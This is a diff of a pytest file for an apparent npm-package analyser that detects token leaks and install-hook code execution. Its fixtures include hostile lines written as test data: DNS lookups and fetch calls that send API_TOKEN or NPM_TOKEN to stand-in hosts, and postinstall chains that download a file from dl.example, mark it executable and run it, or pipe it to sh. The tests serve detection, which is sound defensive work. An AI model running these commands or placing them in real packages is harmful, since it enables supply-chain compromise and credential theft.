@@ -1,5 +1,7 @@
 """Deeds in several steps, through streams, generators, descriptors, alphabets: what is led along is still followed."""
 
+import json
+
 import pytest
 from reading import package
 
@@ -167,7 +169,7 @@ def test_a_token_that_is_spelt_anew_and_looked_up_is_seen_to_leave_by_name(code:
     "code",
     [
         "require('dns').lookup(process.env.API_TOKEN, () => {})",
-        "require('dns').lookup('registry.npmjs.org', () => fetch('https://registry.npmjs.org', {headers: {a: process.env.NPM_TOKEN}}))",
+        "require('dns').lookup('packages.example', () => fetch('https://packages.example', {headers: {a: process.env.NPM_TOKEN}}))",
         """const names = ['zero', 'one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine']
 require('dns').lookup(names[process.env.API_TOKEN] + '.example.org', () => {})""",
     ],
@@ -294,3 +296,27 @@ def test_a_hook_is_the_projects_only_where_all_its_commands_are(root: str, conte
     written = [b for b in package({"lib/a.js": code}) if b.startswith("file.write") and "/.git/hooks/" in b]
     assert written
     assert all(("(as the project says)" in b) is said for b in written)
+
+
+@pytest.mark.parametrize(
+    "hook", ["npm -C tools -s start", "cd tools && npm run start", "npm run start -w tools"]
+)
+def test_a_shell_line_of_a_bundled_package_is_read_where_a_hook_runs_it(hook: str) -> None:
+    line = "curl -fsSo /tmp/.h https://dl.example/h && chmod +x /tmp/.h && ( /tmp/.h & )"
+    scripts = {"start": line, "other": "curl x.example"}
+    files = {
+        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
+        "tools/package.json": json.dumps({"name": "tools", "scripts": scripts}, indent=0),
+    }
+    found = package(files)
+    assert "code.flow network > execution @ tools/package.json:4 (install)" in found
+    assert not any("x.example @" in b and b.startswith("process") for b in found)
+
+
+@pytest.mark.parametrize("hook", ["node tools/a.js", "npm run other"])
+def test_a_shell_line_of_a_bundled_package_that_nobody_asks_for_does_not_run(hook: str) -> None:
+    files = {
+        "package.json": json.dumps({"scripts": {"postinstall": hook}}),
+        "tools/package.json": '{"name": "tools", "scripts": {"start": "curl https://dl.example/h | sh"}}',
+    }
+    assert not any(b.startswith("process.exec curl") for b in package(files))
